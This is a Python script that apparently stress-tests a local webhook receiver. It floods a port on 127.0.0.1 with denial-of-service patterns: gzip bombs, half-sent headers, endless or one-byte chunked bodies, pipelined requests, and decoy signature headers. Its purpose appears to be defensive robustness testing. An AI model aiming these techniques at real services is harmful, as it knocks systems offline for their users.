"""Strangers who have proven nothing and send what costs most, from an address of their own; a program of its own.

`strangers.py ATTACK PORT [TOKEN]` says "under way" once it is, goes on until its standard input ends, and then says how
many answers it got. What is sent is bytes over sockets, so that no library holds back what no library would send.
"""

import base64
import gzip
import json
import os
import resource
import select
import selectors
import socket
import sys
import time
from collections import Counter, deque
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field

ADDRESS = "127.0.0.2"

ANEW_SECONDS = 1.0
"""After how long a connection that was ended is opened anew."""

MIB = 1024 * 1024

SHAPED = {
    "bcb": {
        "Bcb-Signature": base64.b64encode(bytes(32)).decode(),
        "Bcb-Timestamp": str(int(time.time())),
        "Bcb-Nonce": "a-nonce",
    },
    "bc": {
        "Nonce": base64.b64encode(bytes(12)).decode(),
        "AuthenticationTag": base64.b64encode(bytes(16)).decode(),
        "Checksum": base64.b64encode(bytes(32)).decode(),
    },
}
"""Headers that could be genuine, of the sources `bcb` and `bc`."""


def post(path: str, body: bytes, length: int | None = None, headers: Mapping[str, str] | None = None) -> bytes:
    """A callback; `length` is what it says that it has."""
    lines = {"Host": "a", "Content-Length": str(len(body) if length is None else length), **(headers or {})}
    head = "".join(f"{name}: {value}\r\n" for name, value in lines.items())
    return f"POST {path} HTTP/1.1\r\n{head}\r\n".encode() + body


def get(path: str, **headers: str) -> bytes:
    head = "".join(f"{name}: {value}\r\n" for name, value in {"Host": "a", **headers}.items())
    return f"GET {path} HTTP/1.1\r\n{head}\r\n".encode()


@dataclass(eq=False)
class Stranger:
    """One connection: what it sends, and what comes next behind it."""

    sock: socket.socket
    queue: memoryview
    more: Iterator[bytes]
    due: float = 0.0


@dataclass
class Crowd:
    """Many connections from one thread. Each sends what `sends` gives, and opens anew where it is ended."""

    port: int
    sends: Callable[[], Iterator[bytes]]
    number: int
    after_answer: bool = False
    """Whether the next piece waits for an answer to the one before."""
    pause: float = 0.0
    """Seconds between two pieces."""
    counts: Counter[str] = field(default_factory=Counter)
    _selector: selectors.BaseSelector = field(default_factory=selectors.DefaultSelector)
    _ended: deque[float] = field(default_factory=deque)

    def open(self) -> None:
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind((ADDRESS, 0))
        sock.setblocking(False)
        sock.connect_ex(("127.0.0.1", self.port))
        more = self.sends()
        stranger = Stranger(sock, memoryview(next(more)), more)
        self._selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, stranger)
        self.counts["opened"] += 1

    def close(self, stranger: Stranger) -> None:
        self._selector.unregister(stranger.sock)
        stranger.sock.close()
        self.counts["ended"] += 1
        self._ended.append(time.monotonic())

    def go_on(self, until: Callable[[], bool], under_way: Callable[[], None]) -> None:
        for _ in range(self.number):
            self.open()
        said = False
        while not until():
            for key, events in self._selector.select(0.05):
                self._serve(key.data, events)
            if not said and (self.counts["answers"] or self.counts["pieces"] >= self.number):
                said = True
                under_way()
            self._resume()

    def _serve(self, stranger: Stranger, events: int) -> None:
        try:
            if events & selectors.EVENT_READ:
                received = stranger.sock.recv(MIB)
                if not received:
                    raise ConnectionError
                self.counts["answers"] += received.count(b"HTTP/1.1 ")
                if self.after_answer and not stranger.queue:
                    self._next(stranger)
            if events & selectors.EVENT_WRITE and stranger.queue:
                sent = stranger.sock.send(stranger.queue)
                self.counts["bytes"] += sent
                stranger.queue = stranger.queue[sent:]
                if not stranger.queue:
                    self.counts["pieces"] += 1
                    self._wait(stranger)
        except OSError:
            self.close(stranger)

    def _wait(self, stranger: Stranger) -> None:
        if self.after_answer:
            self._selector.modify(stranger.sock, selectors.EVENT_READ, stranger)
        elif self.pause:
            stranger.due = time.monotonic() + self.pause
            self._selector.modify(stranger.sock, selectors.EVENT_READ, stranger)
        else:
            self._next(stranger)

    def _next(self, stranger: Stranger) -> None:
        stranger.due = 0.0
        stranger.queue = memoryview(next(stranger.more, b""))
        events = selectors.EVENT_READ | (selectors.EVENT_WRITE if stranger.queue else 0)
        self._selector.modify(stranger.sock, events, stranger)

    def _resume(self) -> None:
        while self._ended and self._ended[0] < time.monotonic() - ANEW_SECONDS:
            self._ended.popleft()
            self.open()
        if not self.pause:
            return
        now = time.monotonic()
        for key in list(self._selector.get_map().values()):
            if 0 < key.data.due <= now:
                self._next(key.data)


def repeated(piece: bytes) -> Callable[[], Iterator[bytes]]:
    """Send the same without end."""

    def send() -> Iterator[bytes]:
        while True:
            yield piece

    return send


def first_then(first: bytes, piece: bytes) -> Callable[[], Iterator[bytes]]:
    """Send one thing and then another without end."""

    def send() -> Iterator[bytes]:
        yield first
        while True:
            yield piece

    return send


def bomb(levels: int) -> bytes:
    body = bytes(50 * MIB)
    for _ in range(levels):
        body = gzip.compress(body, 9)
    return body


def bombs() -> Callable[[], Iterator[bytes]]:
    """Twice packed; packed once where the bank documents it, with headers in shape; and where it documents none."""
    twice = post("/webhooks/bcb", bomb(2), headers={"Content-Encoding": "gzip, gzip", **SHAPED["bcb"]})
    once = post("/webhooks/bcb", bomb(1), headers={"Content-Encoding": "gzip", **SHAPED["bcb"]})
    unasked = post("/webhooks/bc", bomb(1), headers={"Content-Encoding": "gzip", **SHAPED["bc"]})

    def send() -> Iterator[bytes]:
        while True:
            yield from (twice, once, unasked)

    return send


HALF = b"POST /webhooks/bcb HTTP/1.1\r\nHost: a\r\nX-Pad"


def crowd(attack: str, port: int, token: str) -> Crowd:
    """Who does what: the figures are those with which the receiver was once stopped."""
    large = 50 * MIB
    shown = {"Authorization": f"Bearer {token}"}
    match attack:
        case "pipelined requests":
            return Crowd(port, repeated(get("/healthz") * 100), 1)
        case "gzip bombs":
            return Crowd(port, bombs(), 8, after_answer=True)
        case "readiness":
            return Crowd(port, repeated(get("/readyz")), 64, after_answer=True)
        case "slow large bodies":
            return Crowd(port, first_then(post("/webhooks/bc", b"", large, SHAPED["bc"]), bytes(1000)), 12, pause=0.3)
        case "large bodies to nobody":
            return Crowd(port, first_then(post("/webhooks/nobody", bytes(MIB - 1), MIB), b""), 400)
        case "large bodies without a signature":
            return Crowd(port, first_then(post("/webhooks/bcb", bytes(MIB - 1), MIB), b""), 400)
        case "large bodies in shape":
            return Crowd(port, first_then(post("/webhooks/bcb", bytes(MIB - 1), MIB, SHAPED["bcb"]), b""), 400)
        case "a body without end":
            return Crowd(port, first_then(post("/webhooks/nobody", b"", 10**12), bytes(MIB)), 4)
        case "chunks of one byte":
            head = post("/webhooks/bcb", b"", headers=SHAPED["bcb"]).replace(
                b"Content-Length: 0", b"Transfer-Encoding: chunked"
            )
            return Crowd(port, first_then(head, b"1\r\nx\r\n" * 10_000), 24)
        case "half a head":
            return Crowd(port, first_then(HALF, b""), 4200)
        case "pages of the feed":
            return Crowd(port, repeated(get("/api/v1/feed?limit=1000", **shown)), 150, after_answer=True)
        case "waiting readers":
            return Crowd(
                port, repeated(get("/api/v1/feed?wait=30&type=standard_webhooks.none", **shown)), 300, after_answer=True
            )
    raise SystemExit(f"no attack is called {attack}")


def main(attack: str, port: str, token: str = "") -> None:
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    # A measure beside which it is not the attacker itself that takes the machine.
    os.nice(5)

    def is_over() -> bool:
        return bool(select.select([sys.stdin], [], [], 0)[0])

    strangers = crowd(attack, int(port), token)
    strangers.go_on(is_over, lambda: print("under way", flush=True))
    print(json.dumps(strangers.counts))


if __name__ == "__main__":
    main(*sys.argv[1:])
